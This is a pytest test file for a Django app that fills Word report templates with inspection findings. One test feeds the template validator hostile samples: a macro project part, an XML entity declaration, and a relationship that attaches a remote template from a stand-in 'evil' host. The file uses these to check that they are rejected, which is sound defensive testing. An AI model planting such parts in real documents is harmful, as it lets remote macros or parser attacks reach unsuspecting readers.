"""Reports in Word: the shipped template, one's own, and files that are none."""

from __future__ import annotations

import io
import zipfile
from datetime import date

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from docx import Document

from yibiao.policy import shipped_pack
from yibiao_web.audit.models import AuditEntry
from yibiao_web.fieldwork.concluding import conclude
from yibiao_web.fieldwork.models import ReportTemplate
from yibiao_web.fieldwork.tests import making
from yibiao_web.fieldwork.word.filling import BadTemplate, check, fill
from yibiao_web.fieldwork.word.report import NAMES, ROWS, report
from yibiao_web.fieldwork.word.standard import standard_template
from yibiao_web.files.command import marks_in
from yibiao_web.files.marking import stamp_for

LIMITS = {"most_bytes": 5 << 20, "most_unpacked": 50 << 20}
ON = date(2026, 11, 2)


def word(*lines: str, runs: tuple[str, ...] = ()) -> bytes:
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    if runs:
        paragraph = document.add_paragraph()
        for one in runs:
            paragraph.add_run(one)
    return saved(document)


def saved(document) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def texts(content: bytes) -> list[str]:
    return [one.text for one in Document(io.BytesIO(content)).paragraphs]


def packed(base: bytes, **parts: bytes) -> bytes:
    """A file with parts put in or replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        names = {name.replace("__", "/").replace("--", "."): body for name, body in parts.items()}
        for one in old.namelist():
            if one not in names:
                new.writestr(one, old.read(one))
        for name, body in names.items():
            new.writestr(name, body)
    return out.getvalue()


def test_a_placeholder_cut_into_runs_is_filled_and_keeps_its_font():
    document = Document()
    paragraph = document.add_paragraph("到")
    for part in ("《被检", "查单", "位》看", "了《结论》。"):
        paragraph.add_run(part).bold = True
    filled = Document(io.BytesIO(fill(saved(document), {"被检查单位": "杏花坞村", "结论": "很好"}, [])))
    assert filled.paragraphs[0].text == "到杏花坞村看了很好。"
    assert next(run for run in filled.paragraphs[0].runs if run.text.startswith("杏花")).bold


def test_titles_of_documents_stay():
    assert texts(fill(word("依据《禾溪县检查办法》，《结论》"), {"结论": "好"}, [])) == ["依据《禾溪县检查办法》，好"]


def test_a_paragraph_of_its_own_is_repeated_for_every_line_and_another_is_not():
    filled = fill(word("《看到的情况》", "有：《看到的情况》。"), {"看到的情况": "一\n二\n三"}, [])
    assert texts(filled) == ["一", "二", "三", "有：一；二；三。"]


def test_a_table_row_is_repeated_for_every_problem():
    document = Document()
    table = document.add_table(rows=2, cols=2)
    for row, words in ((0, ("问题", "归谁")), (1, ("《问题》", "《责任单位》"))):
        for at, one in enumerate(words):
            table.cell(row, at).text = one
    rows = [dict.fromkeys(ROWS, "") | {"问题": f"问题{at}", "责任单位": "县民政局"} for at in (1, 2, 3)]
    filled = Document(io.BytesIO(fill(saved(document), {}, rows))).tables[0]
    assert [[cell.text for cell in row.cells] for row in filled.rows][1:] == [
        [f"问题{at}", "县民政局"] for at in (1, 2, 3)
    ]
    none = Document(io.BytesIO(fill(saved(document), {}, []))).tables[0]
    assert [cell.text for cell in none.rows[1].cells] == ["无", "无"]


def test_headers_footers_and_tables_are_filled_too():
    document = Document()
    document.sections[0].header.paragraphs[0].text = "《检查单位》"
    document.sections[0].footer.paragraphs[0].text = "《落款日期》"
    document.add_table(rows=1, cols=1).cell(0, 0).text = "《检查名称》"
    filled = Document(io.BytesIO(fill(saved(document), {"检查单位": "甲", "落款日期": "乙", "检查名称": "丙"}, [])))
    assert filled.sections[0].header.paragraphs[0].text == "甲"
    assert filled.sections[0].footer.paragraphs[0].text == "乙"
    assert filled.tables[0].cell(0, 0).text == "丙"


def test_the_shipped_template_has_every_part_and_is_laid_out_as_a_document():
    template = standard_template(shipped_pack(), ON)
    told = check(template, [*NAMES, *ROWS], **LIMITS)
    assert not told.unknown
    assert {"标题", "被检查单位", "看到的情况", "当地意见", "结论", "申请复核", "问题", "责任单位"} <= set(told.known)
    section = Document(io.BytesIO(template)).sections[0]
    assert [round(one.mm) for one in (section.page_width, section.page_height, section.top_margin)] == [210, 297, 37]


BLANK = word("《结论》")


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "not_word"),
        (b"hello", "not_word"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "template_locked"),
        (BLANK[: len(BLANK) // 2], "not_word"),
        (packed(b"PK\x05\x06" + bytes(18), x=b"y"), "not_word"),
        (word("没有标出来的地方"), "no_placeholder"),
        (packed(BLANK, word__vbaProject=b""), None),
        (packed(BLANK, **{"word__vbaProject--bin": b"x"}), "template_runs"),
        (packed(BLANK, **{"word__embeddings__a--xlsx": b"x"}), "template_runs"),
        (packed(BLANK, **{"word__document--xml": b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"}),
         "template_damaged"),
        (packed(BLANK, **{"word__document--xml": b"<w:document"}), "template_damaged"),
        (packed(BLANK, **{"word___rels__settings--xml--rels":
                b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                    b'<Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" '
                b'TargetMode="External"/></Relationships>'}), "template_links"),
        (packed(BLANK, word__big=bytes(60 << 20)), "template_too_large"),
        (bytes(6 << 20), "template_too_large"),
    ],
)  # fmt: skip
def test_a_hostile_or_broken_template_is_said_so(content, code):
    if code is None:
        assert check(content, NAMES, **LIMITS).known == ("结论",)
        return
    with pytest.raises(BadTemplate) as told:
        check(content, NAMES, **LIMITS)
    assert told.value.code == code
    assert "请" in told.value.message or "不能用" in told.value.message


def test_a_report_says_what_was_seen_whose_it_is_and_how_to_disagree(cast, now, as_user):
    conclusion = making.concluded(cast, now, problem={"owner": cast.org("县残联")})
    answer = as_user("lin").get(reverse("fieldwork:report", args=[conclusion.visit_id]))
    document = Document(io.BytesIO(answer.content))
    shown = "\n".join(
        [
            *(one.text for one in document.paragraphs),
            *(cell.text for row in document.tables[0].rows for cell in row.cells),
        ]
    )
    for words in (
        "杏花坞村",
        "厨房灭火器过期",
        "县残联",
        "有一处消防设施要更换",
        "没有不同意见",
        "2026年12月2日",
        "县民政局",
    ):
        assert words in shown, words
    assert "《" not in shown
    assert "attachment" in answer["Content-Disposition"]


@pytest.mark.parametrize("own", [False, True])
def test_a_report_carries_who_took_it_and_that_is_on_the_trail(cast, now, as_user, own):
    conclusion = making.concluded(cast, now)
    if own:
        sent = SimpleUploadedFile("民政局反馈.docx", word("县民政局用：《结论》"))
        as_user("zhao").post(reverse("fieldwork:template"), {"file": sent})
    content = as_user("lin").get(reverse("fieldwork:report", args=[conclusion.visit_id])).content
    entry = AuditEntry.objects.get(action="conclusion.taken")
    assert (entry.actor_name, entry.scope) == ("林小满", cast.org("杏花坞村").path)
    found = list(marks_in("反馈.docx", content))
    assert {one.entry for one in found} == {entry.pk}
    assert any(one.stamp == stamp_for(entry) for one in found)
    assert "林小满" in Document(io.BytesIO(content)).sections[0].footer.paragraphs[-1].text


def test_a_reception_is_not_in_the_report(cast, now, as_user):
    making.concluded(cast, now)
    visit = making.finished(
        cast, now, making.told(), making.told("村口敲锣打鼓", kind="sign", sign="gongs"), place="老槐坪村"
    )
    as_user("luo").post(reverse("fieldwork:remark", args=[visit.pk]), {"through": "1"})
    made = conclude(visit, words="没有发现问题。", laid=[], viewer=cast.viewer("zhao"), now=now)
    assert "锣" not in "".join(texts(report(made)[1]))


def test_a_department_uses_its_own_template_and_goes_back(cast, now, as_user):
    conclusion = making.concluded(cast, now)
    client = as_user("zhao")
    upload = {"file": SimpleUploadedFile("民政局反馈.docx", word("县民政局用：《结论》", "《检察组》"))}
    page = client.post(reverse("fieldwork:template"), upload).content.decode()
    assert "《检察组》" in page  # a slip of the pen is shown
    address = reverse("fieldwork:report", args=[conclusion.visit_id])
    assert texts(client.get(address).content)[0] == "县民政局用：有一处消防设施要更换。"
    bad = client.post(reverse("fieldwork:template"), {"file": SimpleUploadedFile("x.docx", b"x")})
    assert bad.status_code == 422
    assert ReportTemplate.objects.get().file_name == "民政局反馈.docx"
    client.post(reverse("fieldwork:drop_template"))
    assert "一、看到的情况" in texts(client.get(address).content)
    assert as_user("zhou").get(reverse("fieldwork:standard")).status_code == 200
    assert as_user("lin").get(reverse("fieldwork:template")).status_code == 404
